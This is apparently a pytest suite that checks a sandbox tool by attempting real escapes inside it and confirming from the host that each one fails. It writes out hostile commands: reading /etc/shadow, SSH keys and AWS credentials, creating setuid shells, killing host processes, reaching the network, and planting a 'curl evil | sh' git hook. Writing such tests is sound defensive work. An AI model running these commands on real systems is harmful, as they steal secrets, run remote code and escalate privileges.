"""The escape suite: one real attack per security invariant of the architecture.

Each test attempts the attack for real inside `sandbox run` and then checks, from the host,
that it had no effect. A test whose attack succeeds fails. The attacks that need no commit also
run under `sandbox profile test` and `profile record` (the `entry` fixture), which must confine
a command exactly like `run`.
"""

from __future__ import annotations

import contextlib
import json
import os
import pwd
import shutil
import signal
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import SANDBOX_BIN, Cli, give

ENTRIES = ("run", "profile test", "profile record")


@pytest.fixture(params=ENTRIES)
def entry(request: pytest.FixtureRequest) -> str:
    """Every way of running a command: `run`, and the profile tools (same confinement)."""
    value: str = request.param
    return value


def run(cli: Cli, ws: Path, script: str, *extra: str,
        entry: str = "run") -> subprocess.CompletedProcess[bytes]:
    """Run the attack; a sandbox that failed to start (125) must not pass as "stopped".

    The result's stdout is the attack's output, whichever entry ran it (`profile record`
    writes the profile on stdout and the command's output on stderr)."""
    argv = {"run": ["run", *extra, "-C", str(ws)],
            "profile test": ["profile", "test", "-C", str(ws), "default"],
            "profile record": ["profile", "record", "-C", str(ws)]}[entry]
    # record: the command's stdout is our stderr; its own stderr would mix in (error messages
    # naming the paths it tried), so it goes away there
    quiet = "exec 2>/dev/null\n" if entry == "profile record" else ""
    r = cli(*argv, "--", "sh", "-c", f"{quiet}{script}\necho ATTACK-RAN")
    out = r.stdout
    if entry == "profile record":
        out = r.stderr[:r.stderr.find(b"ATTACK-RAN\n") + len(b"ATTACK-RAN\n")]
    assert r.returncode != 125 and b"ATTACK-RAN" in out, (r.returncode, r.stderr)
    if entry != "run":
        assert b"never change the workspace" in r.stderr, r.stderr
    return subprocess.CompletedProcess(r.args, r.returncode, out, r.stderr)


def run_json(cli: Cli, ws: Path, script: str, *extra: str) -> dict[str, object]:
    r = cli("run", "-C", str(ws), "--json", *extra, "--", "sh", "-c", f"{script}\necho ATTACK-RAN")
    assert r.returncode != 125 and b"ATTACK-RAN" in r.stdout, (r.returncode, r.stderr)
    data: dict[str, object] = json.loads(r.stdout)
    return data


@pytest.fixture
def canary(sbx: tuple[Cli, Path]) -> Iterator[Path]:
    """A secret file in the calling user's own home directory: the sandbox must never see it."""
    cli, _ = sbx
    home = Path(pwd.getpwnam(cli.user).pw_dir) if cli.user else Path.home()
    p = home / f".sandbox-canary-{os.getpid()}"
    p.write_text("TOP-SECRET-CANARY\n")
    give(cli, p)
    yield p
    p.unlink(missing_ok=True)


def test_writes_outside_workspace_never_reach_host(sbx: tuple[Cli, Path],
                                                  base_dir: Path, entry: str) -> None:
    cli, workspace = sbx
    target = base_dir / "outside.txt"
    target.write_text("original\n")
    script = (f"echo pwned > {target}; echo pwned >> /etc/hostname; "
              "echo pwned > /usr/bin/sandbox-pwned; "
              f"echo pwned > {workspace}/README.md; echo pwned > /workspace/README.md; true")
    r = run(cli, workspace, script, "--level", "2", entry=entry)
    assert r.returncode == 0
    assert target.read_text() == "original\n"
    assert not Path("/usr/bin/sandbox-pwned").exists()
    assert b"pwned" not in Path("/etc/hostname").read_bytes()
    assert (workspace / "README.md").read_text() == "hello\n"  # only in the pending upper


def test_host_home_and_keys_are_not_visible(sbx: tuple[Cli, Path], canary: Path,
                                            entry: str) -> None:
    cli, workspace = sbx
    r = run(cli, workspace, f"cat {canary}; ls -a {canary.parent}; ls /home; "
            "cat /etc/shadow; true", entry=entry)
    assert b"TOP-SECRET-CANARY" not in r.stdout + r.stderr
    assert canary.name.encode() not in r.stdout
    assert b"root:" not in r.stdout  # no shadow


def test_hidden_workspace_files_are_invisible(sbx: tuple[Cli, Path], entry: str) -> None:
    cli, workspace = sbx
    secrets = {".env": "DB_PASSWORD=hunter2\n", "sub/.env.local": "TOKEN=abc\n",
               "deploy.pem": "-----BEGIN-----\n", ".ssh/id_rsa": "PRIVATE\n",
               "id_rsa": "PRIVATE2\n", ".aws/credentials": "AKIA\n", ".netrc": "machine x\n"}
    for rel, content in secrets.items():
        (workspace / rel).parent.mkdir(parents=True, exist_ok=True)
        (workspace / rel).write_text(content)
    give(cli, workspace)
    r = run(cli, workspace, "ls -aR; cat .env sub/.env.local deploy.pem .ssh/id_rsa id_rsa "
            ".aws/credentials .netrc; grep -r . . ; true", entry=entry)
    out = r.stdout + r.stderr
    for content in secrets.values():
        assert content.strip().encode() not in out, content
    assert b"README.md" in r.stdout  # the rest of the workspace is there


def test_overwriting_a_hidden_file_is_refused(sbx: tuple[Cli, Path]) -> None:
    cli, workspace = sbx
    (workspace / ".env").write_text("REAL=1\n")
    give(cli, workspace)
    out = run_json(cli, workspace, "echo FAKE=1 > .env", "--level", "4")
    assert (workspace / ".env").read_text() == "REAL=1\n"
    assert any(x["path"] == ".env" for x in out["decision"]["refused"])  # type: ignore[index]


def test_host_processes_invisible_and_unsignalable(sbx: tuple[Cli, Path], entry: str) -> None:
    cli, workspace = sbx
    victim = subprocess.Popen(["sleep", "300"])
    try:
        r = run(cli, workspace, f"ls /proc | grep -x {victim.pid}; kill -9 {victim.pid} "
                "2>/dev/null || echo KILL-REFUSED; ps -e -o pid= | wc -l", entry=entry)
        assert str(victim.pid).encode() + b"\n" not in r.stdout.split(b"\n", 1)[0] + b"\n"
        # The kill was tried and refused, so no signal is on its way: no pause needed to see.
        assert b"KILL-REFUSED\n" in r.stdout
        assert victim.poll() is None, "the sandbox killed a host process"
        nprocs = int(r.stdout.strip().splitlines()[-2])  # the line before ATTACK-RAN
        assert nprocs < 10  # only the sandbox's own processes
    finally:
        victim.kill()
        victim.wait()


def _procs_with(marker: str) -> list[int]:
    out = []
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                if marker.encode() in (d / "cmdline").read_bytes():
                    out.append(int(d.name))
            except OSError:
                continue
    return out


def test_nothing_survives_the_run(sbx: tuple[Cli, Path], entry: str) -> None:
    cli, workspace = sbx
    # A duration no other process uses is the marker (`sleep 600 MARKER` never ran: sleep
    # refuses a word, and dash has no `exec -a`, so this test used to pass with no survivor
    # started). The script ends only once all three are running, and says so.
    marker = str(900_000_000 + os.getpid())
    # (counted from /proc: ps trips the default profile's get_mempolicy denial)
    going = ("going() { n=0; for f in /proc/[0-9]*/cmdline; do "
             f"[ \"$(tr '\\000' ' ' < \"$f\" 2>/dev/null)\" = 'sleep {marker} ' ] && n=$((n+1)); "
             "done; echo $n; }; ")
    script = (going + f"(sleep {marker} &) ; setsid sh -c 'sleep {marker}; :' & "
              f"nohup sh -c 'trap \"\" HUP TERM; sleep {marker}; :' >/dev/null 2>&1 & "
              "i=0; until [ $(going) -ge 3 ] || [ $i -ge 600 ]; do i=$((i+1)); sleep 0.05; "
              "done; echo running=$(going)")
    # this run's mounts (its layers are under its state dir): other users' containers may
    # mount and unmount overlays on this host meanwhile
    def ours() -> int:
        return Path("/proc/self/mounts").read_text().count(str(cli.home))

    mounts_before = ours()
    r = run(cli, workspace, script, entry=entry)
    assert r.returncode == 0, r.stderr
    assert b"running=3\n" in r.stdout, r.stdout  # the three would-be survivors were started
    deadline = time.monotonic() + 2  # a killed process takes a moment to be gone from /proc
    while _procs_with(f"sleep\0{marker}") and time.monotonic() < deadline:
        time.sleep(0.02)
    survivors = _procs_with(f"sleep\0{marker}")
    for pid in survivors:
        os.kill(pid, signal.SIGKILL)
    assert survivors == [], "processes outlived the run"
    assert ours() == mounts_before
    leftovers = [p for p in Path("/tmp").glob("nsjail.*") if p.is_dir() and any(p.iterdir())]
    assert leftovers == []


def test_root_inside_is_not_root_outside(sbx: tuple[Cli, Path], entry: str) -> None:
    cli, workspace = sbx
    r = run(cli, workspace, "id -u; cat /proc/self/uid_map; grep -E "
            "'^(NoNewPrivs|CapEff|CapBnd|Seccomp):' /proc/self/status; echo x > made-inside",
            entry=entry)
    lines = r.stdout.decode().split("\n")
    assert lines[0] == "0"
    inside, outside, _ = lines[1].split()
    assert inside == "0" and outside != "0"
    status = dict(ln.split(":\t") for ln in lines[2:] if ":\t" in ln)
    assert status["NoNewPrivs"] == "1"
    assert int(status["CapEff"], 16) == 0 and int(status["CapBnd"], 16) == 0
    assert status["Seccomp"] == "2"
    assert not (workspace / "made-inside").exists()
    if entry == "run":  # the profile tools throw their snapshot away
        upper_files = list((cli.home / "sessions").glob("*/upper/made-inside"))
        assert upper_files and all(p.stat().st_uid != 0 or os.geteuid() != 0
                                   for p in upper_files)


def test_privilege_tricks_fail(sbx: tuple[Cli, Path], entry: str) -> None:
    cli, workspace = sbx
    tricks = {"UNSHARE": "unshare -r true", "MOUNT": "mount -t tmpfs none /tmp",
              "MKNOD": "mknod dev c 1 3", "CHROOT": "/usr/sbin/chroot / true"}  # sbin: not on PATH
    r = run(cli, workspace, "".join(f"{cmd} 2>/dev/null && echo {name}-OK || echo {name}-FAILED:$?; "
                                    for name, cmd in tricks.items()) + "true", entry=entry)
    for name in tricks:
        assert f"{name}-OK".encode() not in r.stdout, r.stdout
        # each was attempted and refused, not missing from the sandbox (127: not found)
        assert f"{name}-FAILED:".encode() in r.stdout, r.stdout
        assert f"{name}-FAILED:127".encode() not in r.stdout, r.stdout


def test_state_dir_and_docker_socket_not_mounted(sbx: tuple[Cli, Path],
                                                 base_dir: Path, entry: str) -> None:
    cli, workspace = sbx
    sock_path = base_dir / "docker.sock"
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(str(sock_path))
    srv.listen(1)
    try:
        # record stops at every call (~8 s for a walk of /); `profile test`, the same launch,
        # does the full walk
        depth = "-maxdepth 5 " if entry == "profile record" else ""
        r = run(cli, workspace, f"ls {cli.home} {sock_path} /run /var/run/docker.sock "
                f"/run/docker.sock 2>&1; find / {depth}-name 'state.db' -o -name 'audit.log' "
                "2>/dev/null; true", entry=entry)
        assert b"state.db" not in r.stdout and b"audit.log" not in r.stdout
        assert b"No such file" in r.stdout
        assert b"docker.sock\n" not in r.stdout
    finally:
        srv.close()


def test_no_network_not_even_host_loopback(sbx: tuple[Cli, Path], entry: str) -> None:
    cli, workspace = sbx
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    port = srv.getsockname()[1]
    hits: list[bool] = []

    def accept() -> None:
        srv.settimeout(2)  # the sandbox run below is over well before this
        try:
            conn, _ = srv.accept()
            hits.append(True)
            conn.close()
        except OSError:
            pass

    t = threading.Thread(target=accept)
    t.start()
    # 192.0.2.1 is TEST-NET-1 (never routed); the sandbox has no route anyway, so no packet
    # leaves the host: connect/sendto fail inside the sandbox's own network namespace.
    script = (
        "python3 - <<'EOF'\nimport socket\n"
        f"for addr in [('127.0.0.1', {port}), ('192.0.2.1', 80)]:\n"
        "    try:\n"
        "        socket.create_connection(addr, timeout=1); print('CONNECTED', addr)\n"
        "    except OSError as e: print('blocked', addr, e)\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "try:\n    s.sendto(b'x', ('192.0.2.1', 53)); print('UDP-SENT')\n"
        "except OSError as e: print('udp blocked', e)\nEOF\n"
    )
    r = run(cli, workspace, script, entry=entry)
    with contextlib.suppress(OSError):
        srv.shutdown(socket.SHUT_RDWR)  # the run is over: wake the accept now, not in 2 s
    t.join()
    srv.close()
    assert b"CONNECTED" not in r.stdout and b"UDP-SENT" not in r.stdout, r.stdout
    for tried in (f"blocked ('127.0.0.1', {port})".encode(), b"blocked ('192.0.2.1', 80)",
                  b"udp blocked"):  # each attempt was made, and failed inside
        assert tried in r.stdout, r.stdout
    assert hits == []


@pytest.mark.parametrize("attack", [
    "cp /bin/sh suid-sh; chmod u+s suid-sh",
    "cp /bin/sh sgid-sh; chmod g+s sgid-sh",
    "ln -s /etc/passwd passwd-link",
    "ln -s ../../../../etc etc-link",
    "mkfifo a-fifo",
    "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.bind('a-socket')\"",
])
def test_forbidden_changes_never_commit(sbx: tuple[Cli, Path], attack: str) -> None:
    cli, workspace = sbx
    out = run_json(cli, workspace, attack, "--level", "4")
    refused = out["decision"]["refused"]  # type: ignore[index]
    assert refused, out
    names = {p.name for p in workspace.iterdir()}
    assert not names & {"suid-sh", "sgid-sh", "passwd-link", "etc-link", "a-fifo", "a-socket"}
    path = refused[0]["path"]
    r = cli("approve", "last", path)
    assert r.returncode == 4, (r.returncode, r.stderr)  # a forbidden change: exit 4, nothing
    assert b"forbid" in r.stderr.lower() + r.stdout.lower()
    # nothing the run made reached the workspace, the named forbidden path least of all
    assert {p.name for p in workspace.iterdir()} == names


def test_planting_git_hooks_needs_a_person(sbx: tuple[Cli, Path]) -> None:
    cli, workspace = sbx
    (workspace / ".git" / "hooks").mkdir(parents=True)
    give(cli, workspace)
    run(cli, workspace, "echo 'curl evil | sh' > .git/hooks/post-checkout; "
        "chmod +x .git/hooks/post-checkout", "--level", "3")
    assert not (workspace / ".git/hooks/post-checkout").exists()
    r = cli("approve", "last")
    assert r.returncode == 5 and b"--include-protected" in r.stderr  # protected: exit 5
    assert not (workspace / ".git/hooks/post-checkout").exists()


def test_crash_mid_commit_is_recovered(sbx: tuple[Cli, Path]) -> None:
    cli, workspace = sbx
    n = 60
    script = "; ".join(f"echo changed-{i} > f{i}.txt" for i in range(n))
    for i in range(n):
        (workspace / f"f{i}.txt").write_text(f"orig-{i}\n")
    give(cli, workspace)
    cli("run", "-C", str(workspace), "--", "sh", "-c", script, check=True)
    env = cli.env({"SANDBOX_COMMIT_STEP_DELAY": "0.01"})
    as_user = [shutil.which("runuser") or "/usr/sbin/runuser", "-u", cli.user, "--"] if cli.user else []
    # From the workspace: `last` is the last run of the current one (elsewhere approve exits
    # 2 at once, and the kill below would have crashed nothing).
    proc = subprocess.Popen([*as_user, str(SANDBOX_BIN), "approve", "last"], env=env,
                            cwd=workspace, start_new_session=True)

    def changed() -> int:
        return sum((workspace / f"f{i}.txt").read_text() == f"changed-{i}\n" for i in range(n))

    deadline = time.monotonic() + 60
    while not changed():  # kill it once the commit is under way, not at a guessed moment
        assert proc.poll() is None and time.monotonic() < deadline, "the commit never began"
        time.sleep(0.005)
    os.killpg(proc.pid, signal.SIGKILL)  # the whole group: runuser's child too
    proc.wait()
    assert 0 < changed() < n, "the crash did not land mid-commit"
    cli("ls", check=True)  # any invocation finishes or rolls back the interrupted commit
    contents = {(workspace / f"f{i}.txt").read_text() for i in range(n)}
    before = {f"orig-{i}\n" for i in range(n)}
    after = {f"changed-{i}\n" for i in range(n)}
    assert contents in (before, after), "workspace half-applied after a crash"
    assert not [p for p in workspace.rglob("*") if ".sandbox" in p.name]
